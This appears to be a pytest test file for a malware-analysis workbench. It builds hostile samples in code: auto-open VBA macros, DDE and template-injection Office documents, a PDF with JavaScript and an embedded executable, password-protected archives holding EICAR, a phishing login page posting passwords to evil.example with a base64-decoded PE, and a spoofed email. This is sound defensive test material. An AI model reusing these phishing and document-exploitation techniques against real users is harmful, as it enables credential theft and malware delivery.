"""Each dissector on files built in code: what an analyst expects to see in the report and as children."""

from __future__ import annotations

import io

import pytest

from workbench.dissect.model import OK, PARTIAL, Artifact
from workbench.dissect.walker import dissect_bytes
from workbench.dissect.worker import WorkerPool
from workbench.samples.archives import build_aes_zip, build_gzip, build_tar, build_zip
from workbench.samples.documents import build_docx, build_pdf, build_rtf
from workbench.samples.mail import EICAR, Attachment, Mail, build_message, received
from workbench.samples.office import (
    AUTOOPEN_SHELL_MACRO,
    VELVET_SWEATSHOP,
    build_encrypted_docx,
    build_tnef,
    build_vba_document,
)
from workbench.samples.pe import RT_RCDATA, Resource, build_pe
from workbench.samples.rar import build_rar5


def _child(node: Artifact, name: str) -> Artifact:
    return next(c for c in node.children if c.filename == name or c.path.endswith("/" + name))


@pytest.mark.parametrize("kind", ["doc", "docm"])
def test_office_vba(pool: WorkerPool, kind: str) -> None:
    root = dissect_bytes(build_vba_document(AUTOOPEN_SHELL_MACRO, kind=kind), f"a.{kind}", pool=pool).root
    assert root.dissector == "office" and root.status == OK
    report = root.report
    assert report.vba and report.mraptor.suspicious and "A" in report.mraptor.flags
    assert ("AutoExec", "AutoOpen") in {(f.kind, f.keyword) for f in report.findings}
    source = _child(root, "ThisDocument.cls")
    assert source.path.endswith("VBA/ThisDocument.cls") and source.dissector == "script"
    assert "powershell" in source.report.keywords


def test_office_template_injection_and_dde(pool: WorkerPool) -> None:
    injected = dissect_bytes(build_docx(["hi"], template_url="http://templates.example/x.dotm"), "c.docx",
                             pool=pool).root.report
    assert [(r.type, r.target) for r in injected.external_relationships] == [
        ("attachedTemplate", "http://templates.example/x.dotm")]
    dde = dissect_bytes(build_docx(["hi"], dde_command='"C:\\\\Windows\\\\calc.exe"'), "d.docx",
                        pool=pool).root.report
    assert dde.dde and dde.dde[0].startswith("DDEAUTO")


def test_office_encrypted_document_is_detected(pool: WorkerPool) -> None:
    root = dissect_bytes(build_encrypted_docx("not-in-the-list"), "locked.docx", pool=pool).root
    assert root.dissector == "office" and root.report.encrypted and root.report.decrypted_with is None
    assert root.status == PARTIAL and "passwords worked" in root.reason and root.children == []


def test_office_velvet_sweatshop_is_decrypted_and_dissected(pool: WorkerPool) -> None:
    encrypted = build_encrypted_docx(VELVET_SWEATSHOP, template_url="http://templates.example/x.dotm")
    root = dissect_bytes(encrypted, "figures.docx", pool=pool).root
    assert root.dissector == "office" and root.status == OK
    assert root.mime == "application/encrypted" and root.flags == []     # how Office saves it
    assert root.report.encrypted and root.report.decrypted_with == "VelvetSweatshop"
    decrypted = _child(root, "decrypted")
    assert decrypted.note == "decrypted with password 'VelvetSweatshop'"
    # what the encryption hid is now in the tree: the template injection of the plain document
    assert decrypted.dissector == "office" and decrypted.report.container == "ooxml"
    assert not decrypted.report.encrypted
    assert [(r.type, r.target) for r in decrypted.report.external_relationships] == [
        ("attachedTemplate", "http://templates.example/x.dotm")]


def test_office_password_from_the_message_body(pool: WorkerPool) -> None:
    mail = Mail("hr@evil.example", "victim@corp.example", "Salaries",
                text="The document is protected. Password: 4471",
                attachments=[Attachment("salaries.docx", build_encrypted_docx("4471"))])
    root = dissect_bytes(build_message(mail), as_message=True, pool=pool).root
    document = _child(root, "salaries.docx")
    assert document.report.decrypted_with == "4471" and document.status == OK
    assert _child(document, "decrypted").report.container == "ooxml"


def test_rtf_object_becomes_child(pool: WorkerPool) -> None:
    root = dissect_bytes(build_rtf("hello", embedded=("update.vbs", b"WScript.Echo 1\r\n")), "o.rtf",
                         pool=pool).root
    assert root.report.container == "rtf" and root.report.embedded
    assert _child(root, "update.vbs").size > 0


def test_pdf_javascript_and_embedded_file(pool: WorkerPool) -> None:
    data = build_pdf("x", javascript="app.alert('WB-PDF');", uri="http://pdf.example/u",
                     embedded=("payload.exe", build_pe()))
    root = dissect_bytes(data, "s.pdf", pool=pool).root
    report = root.report
    assert {"/JS", "/OpenAction", "/URI", "/EmbeddedFiles"} <= set(report.keyword_counts)
    assert report.javascript == ["app.alert('WB-PDF');"] and report.uris == ["http://pdf.example/u"]
    assert report.embedded_files == ["payload.exe"]
    assert _child(root, "payload.exe").dissector == "pe"
    assert any(c.path.endswith(".js") for c in root.children)


def test_pdf_object_cap(pool: WorkerPool) -> None:
    from workbench.dissect.model import Limits

    body = b"%PDF-1.4\n" + b"".join(b"%d 0 obj\n<< /Type /X >>\nendobj\n" % i for i in range(1, 400))
    root = dissect_bytes(body, "many.pdf", pool=pool, limits=Limits(max_pdf_objects=250)).root
    assert root.status == "limit-hit" and root.report.objects_examined == 250


def test_pe_report(pool: WorkerPool) -> None:
    data = build_pe(exports=["Run"], dll=True, resources=[Resource(RT_RCDATA, 7, b"R" * 5000)],
                    version_info={"CompanyName": "Contoso", "OriginalFilename": "inv.dll"},
                    tls_callbacks=1, signer="Contoso Code Signing", dotnet=True, overlay=b"CFG" * 100)
    root = dissect_bytes(data, "x.dll", pool=pool).root
    r = root.report
    assert (r.format, r.machine, r.dll) == ("PE32", "I386", True)
    assert {i.dll for i in r.imports} == {"kernel32.dll", "user32.dll"} and len(r.imphash) == 32
    assert r.exports == ["Run"] and r.exphash
    assert r.version_info["OriginalFilename"] == "inv.dll"
    assert r.rich and r.rich_hash and len(r.tls_callbacks) == 1
    assert r.signed and "Contoso Code Signing" in r.signers[0]
    assert r.dotnet and r.clr_version == "v4.0.30319"
    assert r.overlay_size == 300                      # the certificate is not counted as overlay
    assert _child(root, "overlay.bin").size == 300
    assert any(c.note == "PE resource" and c.size == 5000 for c in root.children)


def test_archives(pool: WorkerPool) -> None:
    inner = build_zip([("e.com", EICAR)])
    gz = dissect_bytes(build_gzip(inner, "e.zip"), "e.zip.gz", pool=pool).root
    assert gz.report.inner_name == "e.zip" and gz.children[0].children[0].sha256 == _eicar_sha()
    tar = dissect_bytes(build_tar([("a/e.com", EICAR), ("b.txt", b"hello")]), "t.tar", pool=pool).root
    assert [c.safe_name for c in tar.children] == ["e.com", "b.txt"]
    aes = dissect_bytes(build_aes_zip([("e.com", EICAR)], b"infected"), "p.zip", pool=pool).root
    assert aes.report.password == "infected" and aes.children[0].sha256 == _eicar_sha()
    locked = dissect_bytes(build_aes_zip([("e.com", EICAR)], b"n0-such-w0rd"), "q.zip", pool=pool).root
    assert locked.status == PARTIAL and locked.children == [] and "none of" in locked.reason
    rar = dissect_bytes(build_rar5([("e.com", EICAR)]), "r.rar", pool=pool).root    # more in test_rar.py
    assert rar.dissector == "rar" and rar.children[0].sha256 == _eicar_sha()


def test_seven_zip_with_password(pool: WorkerPool) -> None:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password="infected") as z:
        z.writestr(EICAR, "e.com")
    root = dissect_bytes(buf.getvalue(), "e.7z", pool=pool).root
    assert root.report.encrypted and root.report.password == "infected"
    assert root.children[0].sha256 == _eicar_sha()


def test_html_forms_and_base64_payload(pool: WorkerPool) -> None:
    import base64

    blob = base64.b64encode(build_pe()).decode()
    page = (f'<html><title>Sign in</title><form action="https://evil.example/p" method="post">'
            f'<input type="password" name="pw"></form><iframe src="http://frame.example/"></iframe>'
            f'<script>var x = "{blob}"; document.write(atob(x));</script></html>').encode()
    root = dissect_bytes(page, "p.html", pool=pool).root
    r = root.report
    assert r.title == "Sign in" and r.forms[0].password_field and r.forms[0].action == "https://evil.example/p"
    assert r.iframes == ["http://frame.example/"] and "atob(" in r.keywords
    assert r.blobs[0].kind == "pe"
    assert any(c.dissector == "pe" for c in root.walk())


def test_tnef_attachments(pool: WorkerPool) -> None:
    root = dissect_bytes(build_tnef([("invoice.com", EICAR)]), "winmail.dat", pool=pool).root
    assert root.dissector == "tnef" and root.report.attachments == ["invoice.com"]
    assert root.children[0].sha256 == _eicar_sha()


def test_message_report(pool: WorkerPool) -> None:
    import datetime as dt

    t0 = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC)
    mail = Mail('"ceo@corp.example" <boss@evil.example>', "victim@corp.example", "Urgent",
                text="Open the archive, password: s3cr3t! See https://evil.example/login",
                html='<a href="http://phish.example/a">here</a> mail help@evil.example',
                attachments=[Attachment("files.zip", build_aes_zip([("e.com", EICAR)], b"s3cr3t!"))],
                headers=[received("mx.corp.example", "relay.evil.example", "203.0.113.9", t0),
                         received("relay.evil.example", "pc.evil.example", "198.51.100.7",
                                  t0 + dt.timedelta(minutes=5)),
                         ("Reply-To", "collector@other.example"),
                         ("Authentication-Results", "mx.corp.example; spf=fail smtp.mailfrom=evil.example;"
                                                    " dkim=none; dmarc=fail header.from=evil.example")])
    root = dissect_bytes(build_message(mail), as_message=True, pool=pool).root
    r = root.report
    assert r.subject == "Urgent" and r.from_addr.endswith("<boss@evil.example>")
    assert [(a.method, a.result) for a in r.auth] == [("spf", "fail"), ("dkim", "none"), ("dmarc", "fail")]
    assert [h.from_host for h in r.received] == ["pc.evil.example", "relay.evil.example"]
    assert r.received[0].from_ip == "198.51.100.7" and r.received[1].delay_seconds == -300.0
    assert any("Reply-To" in m for m in r.mismatches)
    assert any("display name shows ceo@corp.example" in m for m in r.mismatches)
    assert {u.defanged for u in r.urls} >= {"hxxps://evil[.]example/login", "hxxp://phish[.]example/a"}
    assert "help[@]evil[.]example" in r.emails
    assert r.password_candidates[0] == "s3cr3t!"
    archive = _child(root, "files.zip")
    assert archive.report.password == "s3cr3t!" and archive.children[0].sha256 == _eicar_sha()
    assert archive.path == "message/part 3/files.zip"


def _eicar_sha() -> str:
    return "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
